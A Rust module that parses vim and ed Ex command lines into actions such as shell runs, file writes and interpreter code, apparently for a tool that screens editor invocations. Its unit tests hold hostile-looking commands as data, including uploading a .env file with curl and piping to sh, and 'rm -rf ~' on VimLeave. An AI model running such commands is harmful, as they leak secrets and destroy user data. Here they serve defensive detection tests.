//! Ex command lines, as vim reads them from `-c`, `+CMD`, `--cmd` and an
//! Ex script, and ed's commands: a range, a command name (vim's
//! abbreviations: `w`, `wq`, `sav`, `r`, `e`, `so`, `exe`, ...), an
//! optional `!`, and its argument, commands chained by `|` unless the
//! command takes the rest of the line (`:!`, `:normal`, `:g`, `:python`).
//! What each does is an [`Action`].

use super::Action;
use super::script;

/// Whose commands: vim's names and abbreviations, or ed's letters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Dialect {
    Vim,
    Ed,
}

/// How deep commands that run other commands may nest (`:exe`, `:g`,
/// `vim.cmd`): deeper ones are not read.
const MAX_DEPTH: usize = 8;

/// The actions of a script: one command line each, lines after `a`, `i`
/// and `c` being text up to a line of `.`.
pub(super) fn script(text: &str, dialect: Dialect) -> Vec<Action> {
    let mut actions = Vec::new();
    let mut in_text = false;
    for line in text.lines() {
        if in_text {
            in_text = line != ".";
            continue;
        }
        in_text = parse(line, dialect, 0, &mut actions);
    }
    actions
}

/// The actions of one command line.
pub(super) fn line(text: &str, dialect: Dialect) -> Vec<Action> {
    let mut actions = Vec::new();
    parse(text, dialect, 0, &mut actions);
    actions
}

/// What a command is, by its full name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Write,
    WriteAppend,
    WriteQuit,
    SaveAs,
    Read,
    Edit,
    NewBuffer,
    File,
    Source,
    Interpreter(&'static str, &'static str),
    InterpreterFile(&'static str),
    Quit,
    Terminal,
    Global,
    Expression,
    Execute,
    EachDo,
    Autocmd,
    Modifier,
    TextBlock,
    Make,
    Redir,
    Chdir,
    /// Takes the rest of the line and does nothing writ follows (`:normal`).
    RestOfLine,
    Other,
}

/// Vim's commands that matter, with the shortest abbreviation of each.
const VIM_COMMANDS: &[(&str, usize, Kind)] = &[
    ("write", 1, Kind::Write),
    ("wq", 2, Kind::WriteQuit),
    ("wqall", 3, Kind::WriteQuit),
    ("xit", 1, Kind::WriteQuit),
    ("exit", 3, Kind::WriteQuit),
    ("xall", 2, Kind::WriteQuit),
    ("wall", 2, Kind::Write),
    ("update", 2, Kind::Write),
    ("wnext", 2, Kind::Write),
    ("saveas", 3, Kind::SaveAs),
    ("read", 1, Kind::Read),
    ("edit", 1, Kind::Edit),
    ("split", 2, Kind::Edit),
    ("vsplit", 2, Kind::Edit),
    ("new", 3, Kind::Edit),
    ("vnew", 3, Kind::Edit),
    ("tabedit", 4, Kind::Edit),
    ("tabnew", 6, Kind::Edit),
    ("visual", 2, Kind::Edit),
    ("view", 3, Kind::Edit),
    ("sview", 2, Kind::Edit),
    ("enew", 3, Kind::NewBuffer),
    ("file", 1, Kind::File),
    ("source", 2, Kind::Source),
    ("luafile", 4, Kind::InterpreterFile("lua")),
    ("pyfile", 3, Kind::InterpreterFile("python")),
    ("py3file", 4, Kind::InterpreterFile("python3")),
    ("pyxfile", 4, Kind::InterpreterFile("python3")),
    ("rubyfile", 5, Kind::InterpreterFile("ruby")),
    ("perl", 2, Kind::Interpreter("perl", "-e")),
    ("perldo", 5, Kind::Interpreter("perl", "-e")),
    ("ruby", 3, Kind::Interpreter("ruby", "-e")),
    ("rubydo", 5, Kind::Interpreter("ruby", "-e")),
    ("lua", 3, Kind::Interpreter("lua", "-e")),
    ("luado", 4, Kind::Interpreter("lua", "-e")),
    ("python", 2, Kind::Interpreter("python", "-c")),
    ("pydo", 3, Kind::Interpreter("python", "-c")),
    ("python3", 7, Kind::Interpreter("python3", "-c")),
    ("py3", 3, Kind::Interpreter("python3", "-c")),
    ("py3do", 4, Kind::Interpreter("python3", "-c")),
    ("pythonx", 7, Kind::Interpreter("python3", "-c")),
    ("pyx", 3, Kind::Interpreter("python3", "-c")),
    ("pyxdo", 4, Kind::Interpreter("python3", "-c")),
    ("quit", 1, Kind::Quit),
    ("qall", 2, Kind::Quit),
    ("quitall", 5, Kind::Quit),
    ("cquit", 2, Kind::Quit),
    ("normal", 4, Kind::RestOfLine),
    ("terminal", 3, Kind::Terminal),
    ("global", 1, Kind::Global),
    ("vglobal", 1, Kind::Global),
    ("call", 3, Kind::Expression),
    ("let", 3, Kind::Expression),
    ("const", 4, Kind::Expression),
    ("var", 3, Kind::Expression),
    ("echo", 2, Kind::Expression),
    ("echon", 5, Kind::Expression),
    ("echomsg", 5, Kind::Expression),
    ("echoerr", 5, Kind::Expression),
    ("eval", 2, Kind::Expression),
    ("if", 2, Kind::Expression),
    ("elseif", 5, Kind::Expression),
    ("while", 2, Kind::Expression),
    ("return", 4, Kind::Expression),
    ("execute", 3, Kind::Execute),
    ("argdo", 5, Kind::EachDo),
    ("bufdo", 5, Kind::EachDo),
    ("windo", 5, Kind::EachDo),
    ("tabdo", 4, Kind::EachDo),
    ("cdo", 3, Kind::EachDo),
    ("cfdo", 4, Kind::EachDo),
    ("ldo", 2, Kind::EachDo),
    ("lfdo", 4, Kind::EachDo),
    ("autocmd", 2, Kind::Autocmd),
    ("silent", 3, Kind::Modifier),
    ("unsilent", 3, Kind::Modifier),
    ("noautocmd", 3, Kind::Modifier),
    ("keepalt", 5, Kind::Modifier),
    ("keepjumps", 5, Kind::Modifier),
    ("keepmarks", 3, Kind::Modifier),
    ("keeppatterns", 5, Kind::Modifier),
    ("lockmarks", 3, Kind::Modifier),
    ("noswapfile", 3, Kind::Modifier),
    ("verbose", 4, Kind::Modifier),
    ("vertical", 4, Kind::Modifier),
    ("horizontal", 3, Kind::Modifier),
    ("tab", 3, Kind::Modifier),
    ("topleft", 2, Kind::Modifier),
    ("botright", 2, Kind::Modifier),
    ("aboveleft", 3, Kind::Modifier),
    ("belowright", 3, Kind::Modifier),
    ("leftabove", 5, Kind::Modifier),
    ("rightbelow", 6, Kind::Modifier),
    ("hide", 3, Kind::Modifier),
    ("confirm", 4, Kind::Modifier),
    ("browse", 3, Kind::Modifier),
    ("sandbox", 3, Kind::Modifier),
    ("legacy", 3, Kind::Modifier),
    ("vim9cmd", 4, Kind::Modifier),
    ("append", 1, Kind::TextBlock),
    ("insert", 1, Kind::TextBlock),
    ("change", 1, Kind::TextBlock),
    ("make", 3, Kind::Make),
    ("redir", 4, Kind::Redir),
    ("cd", 2, Kind::Chdir),
    ("chdir", 3, Kind::Chdir),
    ("lcd", 2, Kind::Chdir),
    ("lchdir", 3, Kind::Chdir),
    ("tcd", 3, Kind::Chdir),
    ("tchdir", 3, Kind::Chdir),
];

/// A vim command's kind from its name as written (`w`, `sav`, `py3`).
fn vim_kind(name: &str) -> Kind {
    // Vim tries its commands in order, so `:w` is `:write` and `:x` `:xit`.
    VIM_COMMANDS
        .iter()
        .find(|(full, min, _)| name.len() >= *min && full.starts_with(name))
        .map_or(Kind::Other, |(_, _, kind)| *kind)
}

/// An ed command's kind from its letter.
fn ed_kind(name: &str) -> Kind {
    match name {
        "w" => Kind::Write,
        "W" => Kind::WriteAppend,
        "wq" => Kind::WriteQuit,
        "r" => Kind::Read,
        "e" | "E" => Kind::Edit,
        "f" => Kind::File,
        "q" | "Q" => Kind::Quit,
        "g" | "v" | "G" | "V" => Kind::Global,
        "a" | "i" | "c" => Kind::TextBlock,
        _ => Kind::Other,
    }
}

/// Reads one command line into `actions`; true when its last command
/// takes the lines that follow as text (`a`, `i`, `c`).
fn parse(text: &str, dialect: Dialect, depth: usize, actions: &mut Vec<Action>) -> bool {
    if depth > MAX_DEPTH {
        return false;
    }
    let mut rest = text;
    loop {
        rest = rest.trim_start_matches([' ', '\t', ':']);
        if rest.is_empty() || (dialect == Dialect::Vim && rest.starts_with('"')) {
            return false;
        }
        let (ranged, after) = skip_range(rest);
        rest = after.trim_start_matches([' ', '\t']);
        if let Some(command) = rest.strip_prefix('!') {
            // `:!cmd` runs it; `:{range}!cmd` filters those lines through it.
            actions.push(Action::Shell {
                text: command.to_owned(),
                input: ranged,
                expand: true,
            });
            return false;
        }
        let (name, after) = command_name(rest, dialect);
        if name.is_empty() {
            // A command writ does not read (`:s/a/b/`, `:&&`).
            match split_bar(rest, false, dialect) {
                (_, Some(next)) => {
                    rest = next;
                    continue;
                }
                (_, None) => return false,
            }
        }
        let kind = match dialect {
            Dialect::Vim => vim_kind(name),
            Dialect::Ed => ed_kind(name),
        };
        let (bang, after) = match after.strip_prefix('!') {
            Some(after) => (true, after),
            None => (false, after),
        };
        if kind == Kind::Modifier {
            rest = after;
            continue;
        }
        if kind == Kind::TextBlock {
            return true;
        }
        let whole = takes_rest(kind, bang, after.trim_start(), dialect);
        let (argument, next) = if whole {
            (after.to_owned(), None)
        } else {
            split_bar(
                after,
                kind == Kind::Expression || kind == Kind::Execute,
                dialect,
            )
        };
        command(kind, bang, argument.trim(), dialect, depth, actions);
        match next {
            Some(next) => rest = next,
            None => return false,
        }
    }
}

/// True when a command's argument is the rest of the line, `|` and all.
fn takes_rest(kind: Kind, bang: bool, argument: &str, dialect: Dialect) -> bool {
    match kind {
        Kind::Interpreter(..)
        | Kind::Terminal
        | Kind::Global
        | Kind::EachDo
        | Kind::Autocmd
        | Kind::Make
        | Kind::RestOfLine => true,
        Kind::Read => bang || argument.starts_with('!'),
        Kind::Write | Kind::WriteAppend | Kind::Edit => argument.starts_with('!'),
        _ => dialect == Dialect::Ed,
    }
}

/// Skips a line range (`%`, `1,$`, `.,+3`, `'a,'b`, `/pat/`); true when
/// there was one.
fn skip_range(text: &str) -> (bool, &str) {
    let mut chars = text.char_indices().peekable();
    let mut end = 0;
    while let Some((at, c)) = chars.next() {
        match c {
            '0'..='9' | '.' | '$' | '%' | ',' | ';' | '+' | '-' | ' ' => end = at + 1,
            '\'' => {
                chars.next();
                end = chars.peek().map_or(text.len(), |(at, _)| *at);
            }
            '/' | '?' => {
                let mut escaped = false;
                let mut closed = text.len();
                for (inner, d) in chars.by_ref() {
                    if escaped {
                        escaped = false;
                    } else if d == '\\' {
                        escaped = true;
                    } else if d == c {
                        closed = inner + 1;
                        break;
                    }
                }
                end = closed;
            }
            _ => break,
        }
    }
    let range = text.get(..end).unwrap_or_default();
    (
        !range.trim().is_empty(),
        text.get(end..).unwrap_or_default(),
    )
}

/// A command's name as written and what follows it: letters (and the
/// digits of `:py3`), one letter for ed (and `wq`).
fn command_name(text: &str, dialect: Dialect) -> (&str, &str) {
    if dialect == Dialect::Ed {
        if let Some(rest) = text.strip_prefix("wq") {
            return ("wq", rest);
        }
        let end = text
            .chars()
            .next()
            .filter(char::is_ascii_alphabetic)
            .map_or(0, char::len_utf8);
        return text.split_at(end);
    }
    let letters = text
        .find(|c: char| !c.is_ascii_alphabetic())
        .unwrap_or(text.len());
    let end = if text.starts_with("py") {
        text.find(|c: char| !c.is_ascii_alphanumeric())
            .unwrap_or(text.len())
    } else {
        letters
    };
    text.split_at(end)
}

/// The text before the first `|` that separates commands and what
/// follows it. `\|` is a plain `|`; in an expression a `|` inside a
/// string is too.
fn split_bar(text: &str, expression: bool, dialect: Dialect) -> (String, Option<&str>) {
    if dialect == Dialect::Ed {
        return (text.to_owned(), None);
    }
    let mut argument = String::with_capacity(text.len());
    let mut quote: Option<char> = None;
    let mut chars = text.char_indices();
    while let Some((at, c)) = chars.next() {
        match (c, quote) {
            ('\\', None) if text[at + 1..].starts_with('|') => {
                argument.push('|');
                chars.next();
                continue;
            }
            ('\\', Some('"')) => {
                argument.push(c);
                if let Some((_, next)) = chars.next() {
                    argument.push(next);
                }
                continue;
            }
            ('|', None) => return (argument, text.get(at + 1..)),
            ('"' | '\'', None) if expression => quote = Some(c),
            (_, Some(open)) if c == open => quote = None,
            _ => {}
        }
        argument.push(c);
    }
    (argument, None)
}

/// Adds what one command does.
fn command(
    kind: Kind,
    bang: bool,
    argument: &str,
    dialect: Dialect,
    depth: usize,
    actions: &mut Vec<Action>,
) {
    match kind {
        Kind::Write | Kind::WriteAppend | Kind::WriteQuit => {
            write(kind, argument, actions);
            if kind == Kind::WriteQuit {
                actions.push(Action::Quit);
            }
        }
        // The buffer's text goes to FILE, which the buffer is from then on.
        Kind::SaveAs => {
            let file = file_argument(argument);
            if file.is_empty() {
                actions.push(Action::Write {
                    path: None,
                    append: false,
                });
            } else {
                actions.push(Action::Write {
                    path: Some(file.to_owned()),
                    append: false,
                });
                actions.push(Action::Rename(file.to_owned()));
            }
        }
        Kind::Read => match argument.strip_prefix('!') {
            Some(command) => actions.push(shell(command)),
            None if bang => actions.push(shell(argument)),
            None if !argument.is_empty() => {
                actions.push(Action::Read(file_argument(argument).to_owned()));
            }
            None => {}
        },
        Kind::Edit => match argument.strip_prefix('!') {
            // ed's `e !cmd`: the buffer is what the command prints.
            Some(command) => {
                actions.push(Action::Edit(None));
                actions.push(shell(command));
            }
            None => {
                let file = file_argument(argument);
                if !file.is_empty() {
                    actions.push(Action::Edit(Some(file.to_owned())));
                }
            }
        },
        Kind::NewBuffer => actions.push(Action::Edit(None)),
        Kind::File => {
            let file = file_argument(argument);
            if !file.is_empty() {
                actions.push(Action::Rename(file.to_owned()));
            }
        }
        Kind::Source | Kind::InterpreterFile(_) => {
            let file = file_argument(argument);
            if !file.is_empty() {
                actions.push(Action::Source(file.to_owned()));
            }
        }
        Kind::Interpreter(program, flag) => interpreter(program, flag, argument, depth, actions),
        Kind::Quit => actions.push(Action::Quit),
        Kind::Terminal => {
            let command = terminal_command(argument);
            if !command.is_empty() {
                actions.push(Action::Shell {
                    text: command.to_owned(),
                    input: false,
                    expand: true,
                });
            }
        }
        Kind::Global => global(argument, dialect, depth, actions),
        Kind::EachDo => {
            parse(argument, dialect, depth + 1, actions);
        }
        Kind::Autocmd => {
            if let Some(command) = autocmd_command(argument) {
                parse(command, dialect, depth + 1, actions);
            }
        }
        Kind::Expression => expression(argument, depth, actions),
        Kind::Execute => {
            match script::execute_text(argument) {
                Some(text) => {
                    parse(&text, dialect, depth + 1, actions);
                }
                None => expression(argument, depth, actions),
            };
        }
        Kind::Make => actions.push(Action::Shell {
            text: format!("make {argument}"),
            input: false,
            expand: true,
        }),
        Kind::Redir => redir(argument, actions),
        Kind::Chdir => {
            let dir = file_argument(argument);
            if !dir.is_empty() && dir != "-" {
                actions.push(Action::Chdir(dir.to_owned()));
            }
        }
        Kind::Modifier | Kind::TextBlock | Kind::RestOfLine | Kind::Other => {}
    }
}

/// `:w [>>] [FILE]`, `:w !cmd`, `:wq [FILE]`, ed's `W FILE`.
fn write(kind: Kind, argument: &str, actions: &mut Vec<Action>) {
    if let Some(command) = argument.strip_prefix('!') {
        actions.push(Action::Shell {
            text: command.to_owned(),
            input: true,
            expand: true,
        });
        return;
    }
    let (append, file) = match argument.strip_prefix(">>") {
        Some(file) => (true, file_argument(file)),
        None => (kind == Kind::WriteAppend, file_argument(argument)),
    };
    actions.push(Action::Write {
        path: (!file.is_empty()).then(|| file.to_owned()),
        append,
    });
}

/// A file argument without its `++opt` options (`:w ++enc=utf-8 f`).
fn file_argument(argument: &str) -> &str {
    let mut rest = argument.trim();
    while rest.starts_with("++") {
        rest = rest
            .split_once([' ', '\t'])
            .map_or("", |(_, after)| after.trim_start());
    }
    rest.trim()
}

/// A shell command that `%` expands in.
fn shell(text: &str) -> Action {
    Action::Shell {
        text: text.to_owned(),
        input: false,
        expand: true,
    }
}

/// `:terminal [++opt...] CMD`.
fn terminal_command(argument: &str) -> &str {
    let mut rest = argument.trim();
    while rest.starts_with("++") {
        rest = rest
            .split_once(' ')
            .map_or("", |(_, after)| after.trim_start());
    }
    rest
}

/// `:python3 CODE`, `:lua CODE`: Lua is read here for its calls; the
/// others' code goes to their interpreter.
fn interpreter(
    program: &'static str,
    flag: &'static str,
    code: &str,
    depth: usize,
    actions: &mut Vec<Action>,
) {
    let code = code.trim();
    // A heredoc (`:lua << EOF`) has its code on the lines that follow.
    if code.is_empty() || code.starts_with("<<") {
        return;
    }
    if program == "lua" {
        expression(code, depth, actions);
        return;
    }
    actions.push(Action::Code {
        program,
        flag,
        code: code.to_owned(),
    });
}

/// `:g/PATTERN/CMD` (and `:v`, ed's `g/re/cmd`): CMD runs on the lines
/// that match.
fn global(argument: &str, dialect: Dialect, depth: usize, actions: &mut Vec<Action>) {
    let mut chars = argument.char_indices();
    let Some((_, delimiter)) = chars.next() else {
        return;
    };
    if delimiter.is_alphanumeric() || delimiter == ' ' {
        return;
    }
    let mut escaped = false;
    for (at, c) in chars {
        if escaped {
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == delimiter {
            let command = argument.get(at + c.len_utf8()..).unwrap_or_default();
            parse(command, dialect, depth + 1, actions);
            return;
        }
    }
}

/// The command of `:autocmd [GROUP] EVENTS PATTERN [++once] [++nested] CMD`.
fn autocmd_command(argument: &str) -> Option<&str> {
    let is_events = |word: &str| {
        word.starts_with(|c: char| c.is_ascii_uppercase() || c == '*')
            && word
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == ',' || c == '*')
    };
    let mut rest = argument.trim_start();
    // The events word, after a group name when the word after it is events too.
    let (first, after_first) = rest.split_once(' ')?;
    let second = after_first
        .trim_start()
        .split(' ')
        .next()
        .unwrap_or_default();
    if !is_events(first) {
        return None;
    }
    if is_events(second) && !second.starts_with('*') {
        rest = after_first.trim_start();
    }
    // Skip the events and the pattern.
    let (_, after_events) = rest.split_once(' ')?;
    let (_, mut command) = after_events.trim_start().split_once(' ')?;
    loop {
        command = command.trim_start();
        match ["++once", "++nested", "nested"]
            .iter()
            .find_map(|flag| command.strip_prefix(flag))
        {
            Some(after) if after.is_empty() || after.starts_with(' ') => command = after,
            _ => break,
        }
    }
    Some(command)
}

/// `:redir[!] > FILE`, `:redir >> FILE`: messages go to the file.
fn redir(argument: &str, actions: &mut Vec<Action>) {
    let (append, file) = if let Some(file) = argument.strip_prefix(">>") {
        (true, file)
    } else if let Some(file) = argument.strip_prefix('>') {
        (false, file.strip_prefix('!').unwrap_or(file))
    } else {
        return;
    };
    let file = file.trim();
    if !file.is_empty() {
        actions.push(Action::Write {
            path: Some(file.to_owned()),
            append,
        });
    }
}

/// What the calls of Lua code do (a `.lua` file vim sources).
pub(super) fn lua(code: &str) -> Vec<Action> {
    let mut actions = Vec::new();
    expression(code, 0, &mut actions);
    actions
}

/// What the calls of an expression do (`system("cmd")`, `writefile(...)`).
fn expression(code: &str, depth: usize, actions: &mut Vec<Action>) {
    for call in script::calls(code) {
        match call {
            script::Found::Action(action) => actions.push(action),
            script::Found::ExText(text) => {
                parse(&text, Dialect::Vim, depth + 1, actions);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shell_text(text: &str, input: bool) -> Action {
        Action::Shell {
            text: text.to_owned(),
            input,
            expand: true,
        }
    }

    fn write_to(path: Option<&str>, append: bool) -> Action {
        Action::Write {
            path: path.map(str::to_owned),
            append,
        }
    }

    #[test]
    fn vim_lines() {
        let cases: &[(&str, Vec<Action>)] = &[
            (
                "!curl -T .env x | sh",
                vec![shell_text("curl -T .env x | sh", false)],
            ),
            (":%!sort", vec![shell_text("sort", true)]),
            ("w !curl -T - x", vec![shell_text("curl -T - x", true)]),
            ("w! out.txt", vec![write_to(Some("out.txt"), false)]),
            ("w >> log", vec![write_to(Some("log"), true)]),
            ("wq", vec![write_to(None, false), Action::Quit]),
            ("x", vec![write_to(None, false), Action::Quit]),
            ("qa!", vec![Action::Quit]),
            ("r !date", vec![shell_text("date", false)]),
            ("r! date", vec![shell_text("date", false)]),
            ("r notes.txt", vec![Action::Read("notes.txt".to_owned())]),
            ("silent! !make", vec![shell_text("make", false)]),
            (
                "sav /tmp/x",
                vec![
                    write_to(Some("/tmp/x"), false),
                    Action::Rename("/tmp/x".to_owned()),
                ],
            ),
            ("set nu | w", vec![write_to(None, false)]),
            ("g/x/!rm -rf y", vec![shell_text("rm -rf y", false)]),
            ("normal! Go!rm x", vec![]),
            ("s/a/b/g | wq", vec![write_to(None, false), Action::Quit]),
            (
                "py3 import os",
                vec![Action::Code {
                    program: "python3",
                    flag: "-c",
                    code: "import os".to_owned(),
                }],
            ),
            ("exe \"!curl \" . \"x\"", vec![shell_text("curl x", false)]),
            (
                "au VimLeave * !rm -rf ~",
                vec![shell_text("rm -rf ~", false)],
            ),
            ("\" !rm -rf x", vec![]),
        ];
        for (text, expected) in cases {
            assert_eq!(&line(text, Dialect::Vim), expected, "{text}");
        }
    }

    #[test]
    fn ed_scripts_skip_their_text() {
        let actions = script("a\n!rm -rf /\n.\nw\nq\n", Dialect::Ed);
        assert_eq!(actions, vec![write_to(None, false), Action::Quit]);
        let actions = script("W /tmp/log\ne !ls | cat\n", Dialect::Ed);
        assert_eq!(
            actions,
            vec![
                write_to(Some("/tmp/log"), true),
                Action::Edit(None),
                shell_text("ls | cat", false)
            ]
        );
    }
}
